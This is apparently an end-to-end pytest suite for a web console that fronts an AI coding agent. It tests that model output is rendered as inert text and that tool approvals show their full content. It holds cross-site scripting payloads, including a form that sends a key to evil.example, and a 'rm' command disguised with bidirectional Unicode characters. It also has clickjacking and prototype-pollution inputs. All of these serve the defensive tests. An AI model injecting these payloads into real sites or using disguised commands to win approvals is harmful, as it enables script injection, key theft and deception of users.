"""What the console's page adds to what can be attacked, seen in Chromium: T28, and the key."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest

from tests.clients.page_server import page_server
from tests.console.browser import Browser, Page
from tests.console.test_chat import chat
from tests.e2e.approving import bash
from tests.e2e.environment import Stage, open_stage

pytestmark = pytest.mark.e2e
Opened = Callable[..., Page]
KEY = "console-key-0123456789-abcdefghijklmnop"
HOSTILE = """\
<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"></svg><iframe src="/docs"></iframe><base href="https://evil.example/">

[one](javascript:window.pwned=4) [two](data:text/html,<script>window.pwned=5</script>)
[three](vbscript:x) <a href="javascript:window.pwned=6">four</a> ![track](https://evil.example/t.png)
![spy](/sessions) <form action="https://evil.example"><input name=key><button>Send</button></form>

<style>body { display: none }</style>
<div style="position: fixed; inset: 0; background: red" class="dock" id="question">Allow?</div>

`<img src=x onerror=window.pwned=7>` and **<b onclick="window.pwned = 8">bold</b>**

| <script>window.pwned=9</script> | a |
|---|---|
| [x](javascript:window.pwned=10) | <img src=x onerror=window.pwned=11> |

```html" onload="window.pwned=12
<script>window.pwned = 13</script>
```

- <details open ontoggle="window.pwned=14"><summary>x</summary></details>

The end"""
ALLOWED = {
    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "H3", "H4", "H5", "H6", "HR",
    "IMG", "LI", "OL", "P", "PRE", "S", "SPAN", "STRONG", "SUB", "SUP", "TABLE", "TBODY", "TD",
    "TH", "THEAD", "TR", "UL",
}  # fmt: skip


@pytest.fixture(scope="module")
def keyed(real_claude: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    """A server with keys."""
    folder = tmp_path_factory.mktemp("keyed")
    with open_stage(folder, real_claude, COWORK_API_KEYS=f"me={KEY}") as opened:
        yield opened


def with_key(opened: Opened, stage: Stage, project: str) -> Page:
    page = opened(chat(stage, project))
    page.wait("dialog[open]")
    page.fill("#ask-key", KEY)
    page.press("Enter")
    page.wait(".empty")
    return page


def test_t28_what_a_model_writes_is_text_whatever_it_is(keyed: Stage, opened: Opened) -> None:
    page = with_key(opened, keyed, "hostile")
    page.ask(f"[[say {HOSTILE}]]")
    page.answered()
    page.call("reload")
    page.wait(".turn .prose")
    page.wait_until("document.querySelector('.prose').textContent.trim().endsWith('The end')")
    assert page.evaluate("window.pwned ?? null") is None
    found = page.evaluate(
        "[...document.querySelectorAll('.prose *')].map((each) =>"
        " [each.tagName, [...each.attributes].map((one) => [one.name, one.value])])"
    )
    assert {tag for tag, _ in found} <= ALLOWED
    attributes = [(tag, name, value) for tag, given in found for name, value in given]
    assert not [each for each in attributes if each[1].startswith("on") or each[1] == "style"]
    assert not [each for each in attributes if "question" in each or "dock" in each]
    links = [value for tag, name, value in attributes if (tag, name) == ("A", "href")]
    assert "https://evil.example/t.png" in links
    assert all(link.startswith(("https://", "http://")) for link in links)
    assert page.evaluate("document.baseURI").startswith(keyed.server.url)
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert page.evaluate("document.elementFromPoint(640, 760).closest('.composer') !== null")
    asked = page.call("requests")
    assert not [each for each in asked if keyed.server.url not in each and "data:" not in each]


def test_t28_the_key_stays_in_its_tab_and_goes_with_it(keyed: Stage, opened: Opened) -> None:
    page = with_key(opened, keyed, "key")
    page.ask("[[say taken]]")
    page.answered()
    kept = page.evaluate("[localStorage.length, document.cookie, location.href]")
    assert kept[:2] == [0, ""]
    assert KEY not in kept[2]
    assert KEY not in page.evaluate("document.documentElement.outerHTML")
    assert not [each for each in page.call("requests") if KEY in each]
    page.call("reload")
    page.wait(".turn .prose")
    beside = opened(chat(keyed, "key"), beside=page)
    beside.wait("dialog[open]")
    page.click("text=Forget the key")
    page.wait("dialog[open]")
    assert KEY not in page.evaluate("JSON.stringify(sessionStorage)")


def test_a_wrong_key_is_asked_for_again_and_a_right_one_shows_all(
    keyed: Stage, opened: Opened
) -> None:
    page = opened(chat(keyed, "wrong key"))
    page.wait("dialog[open]")
    page.fill("#ask-key", "w" * 40)
    page.press("Enter")
    page.wait_until("document.querySelector('dialog h2')?.textContent === 'This key is not taken'")
    page.fill("#ask-key", KEY)
    page.press("Enter")
    page.wait(".empty")
    page.ask("[[say right]]")
    page.answered()
    assert page.answer() == "right"


def test_t28_another_page_can_neither_frame_it_nor_read_it(
    keyed: Stage, browser: Browser, opened: Opened
) -> None:
    del browser
    with page_server() as origin:
        page = opened(origin)
        address = json.dumps(keyed.server.url)
        read = f"fetch({address} + '/').then(() => 'read', (fault) => String(fault))"
        assert "Failed to fetch" in page.evaluate(read)
        page.evaluate(
            "new Promise((done) => document.body.append(Object.assign("
            f"document.createElement('iframe'), {{src: {address} + '/', onload: () => done()}})))"
        )
        page.sleep(300)
        assert page.evaluate("document.querySelector('iframe').contentDocument") is None
        assert "frame" in " ".join(page.call("problems")).lower()
        page.forget()


def ask_whole(page: Page, question: str) -> None:
    """Ask it as it is; what is typed has no control characters."""
    page.evaluate(f"document.getElementById('question').value = {json.dumps(question)}")
    page.evaluate("document.getElementById('question').focus()")
    page.press("Enter")


def tool(name: str, **given: object) -> str:
    return f"[[tool {name} {json.dumps(given)}]]"


def deny(page: Page, number: int) -> None:
    page.click(".dock-bar >> text=Deny")
    page.click(".dock-bar .danger")
    page.answered(number)


def test_t28_an_approval_shows_all_that_is_allowed_by_it(stage: Stage, opened: Opened) -> None:
    page = opened(chat(stage, "whole"))
    page.wait(".empty")
    ask_whole(page, bash("echo one\n" + "\n" * 40 + "rm \u202egpj.x\u2066 a\u200bb\u3164c\u00a0d"))
    page.wait(".dock:not([hidden])")
    shown = page.text(".dock .panel pre")
    assert shown.endswith(r"rm \u{202e}gpj.x\u{2066} a\u{200b}b\u{3164}c\u{a0}d")
    assert "All 42 lines" in page.text(".dock-body")
    deny(page, 1)
    file = str(stage.workspace / "long.txt")
    lines = "\n".join(f"line {n}" for n in range(450))
    ask_whole(page, tool("Write", file_path=file, content=f"{lines}\n{'wide ' * 200}the tail"))
    page.wait(".dock:not([hidden])")
    assert "the tail" in page.text(".dock .diff-rest")
    assert "the mode acceptEdits" in page.text(".dock .remembers")
    assert not page.evaluate(
        "[...document.querySelectorAll('.dock-body, .dock pre, .dock .diff-rows, .dock .text')]"
        ".some((each) => each.scrollWidth > each.clientWidth)"
    )
    deny(page, 2)
    ask_whole(page, tool("Bash", command="touch x", description="harmless", timeout=4321))
    page.wait(".dock:not([hidden])")
    assert "timeout: 4321" in page.text(".dock")
    assert "allows from now on: Bash(touch x" in page.text(".dock .remembers")
    deny(page, 3)


def test_t28_what_is_not_in_sight_is_not_allowed(stage: Stage, opened: Opened) -> None:
    page = opened(chat(stage, "unseen"))
    page.wait(".empty")
    page.ask(bash("touch unseen.txt"))
    page.wait(".dock:not([hidden])")
    page.evaluate("location.hash = '#/sessions'")
    page.wait(".page")
    page.sleep(1100)
    page.press("a")
    page.sleep(300)
    page.evaluate("history.back()")
    page.wait(".dock:not([hidden])")
    # What is pressed at once was meant for the view before.
    page.press("a")
    assert page.evaluate("document.querySelector('.dock-bar').inert")
    page.sleep(300)
    assert page.count(".dock:not([hidden])") == 1
    assert not (stage.workspace / "unseen.txt").exists()
    deny(page, 1)


def test_t28_a_second_click_does_not_allow_what_came_under_it(stage: Stage, opened: Opened) -> None:
    page = opened(chat(stage, "double click"))
    page.wait(".empty")
    page.ask(bash("touch clicked-1.txt") + bash("touch clicked-2.txt"))
    page.wait_until("document.querySelector('.dock-bar')?.inert === false")
    # Clicks at where Allow stands, without end, until what came next has been there for a while.
    page.evaluate(
        """(() => {
          const at = document.querySelector(".dock [data-primary]").getBoundingClientRect();
          window.hits = [];
          window.clicking = setInterval(() => {
            const found = document.elementFromPoint(at.x + at.width / 2, at.y + at.height / 2);
            const dock = document.querySelector(".dock");
            const isFirst = dock.textContent.includes("clicked-1");
            if (!dock.hidden && !isFirst && !window.began) window.began = performance.now();
            const isSoon = !window.began || performance.now() - window.began < 450;
            if (!isSoon) return clearInterval(window.clicking);
            if (found?.closest(".dock-bar button")) {
              window.hits.push(isFirst);
              found.closest("button").click();
            }
          }, 20);
        })()"""
    )
    page.wait_until("window.began && performance.now() - window.began > 1000")
    assert page.evaluate("window.hits.includes(true) && !window.hits.includes(false)")
    assert "clicked-2" in page.text(".dock")
    deny(page, 1)
    assert (stage.workspace / "clicked-1.txt").exists()
    assert not (stage.workspace / "clicked-2.txt").exists()


@pytest.mark.parametrize(
    "hostile",
    [
        tool("Edit", edits=5),
        tool("Write", file_path=5, content=[7]),
        tool("Edit", file_path={}, old_string={}, new_string=None),
        tool("constructor", a="b"),
        tool("TodoWrite", todos=[{"content": 5, "status": "menu"}, None, {"status": {}}]),
        tool("TodoWrite", todos="none"),
    ],
)
def test_t28_a_tool_that_is_called_with_anything_does_not_end_the_page(
    stage: Stage, opened: Opened, hostile: str
) -> None:
    page = opened(chat(stage, "any input"))
    page.wait("#question")
    page.ask(hostile)
    page.wait(".turn:last-child .foot:not([hidden])")
    assert page.count(".turn:last-child .bad-card") == 0
    page.click(".turn:last-child .tool-head")
    if page.count(".side-panel:not([hidden])") == 0:
        page.click(".side-button")
    page.sleep(600)
    assert page.count("li.menu") == 0


@pytest.mark.parametrize("nested", ["> " * 4500, "1. " * 3300])
def test_t28_text_that_is_nested_without_end_is_text(
    stage: Stage, opened: Opened, nested: str
) -> None:
    page = opened(chat(stage, "nested"))
    page.wait("#question")
    before = page.count(".turn")
    ask_whole(page, f"[[delay 0]] [[say Look:\n\n{nested}x]] {bash('touch nested.txt')}")
    page.wait(".dock:not([hidden])")
    page.click(".dock-bar >> text=Deny")
    page.click(".dock-bar .danger")
    page.answered(before + 1)
    page.wait_until("document.querySelector('.turn:last-child .blocks').textContent.length > 3000")


def test_t28_names_that_objects_have_are_names(stage: Stage, opened: Opened) -> None:
    for name in ("__proto__", "constructor"):
        asked = {"project_name": name, "question": "[[say hi]]"}
        assert stage.server.post("/ask_question", asked).status_code == 200
    page = opened(chat(stage, "__proto__"))
    page.wait(".turn .prose")
    page.ask("[[say its last words]]")
    page.answered(2)
    page.wait_until("document.querySelector('.projects').innerText.includes('its last words')")
    assert "native code" not in page.text(".projects")
    page.call("reload")
    page.wait_until("document.querySelector('.projects').innerText.includes('its last words')")


def test_t28_a_picture_in_a_link_is_its_words(stage: Stage, opened: Opened) -> None:
    dot = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="
    page = opened(chat(stage, "picture"))
    page.wait(".empty")
    page.ask(f"[[say [![Allow]({dot})](https://evil.example/) ![dot]({dot})]]")
    page.answered()
    assert page.text(".prose a") == "Allow"
    assert page.count(".prose a img") == 0
    assert page.count(".prose img") == 1
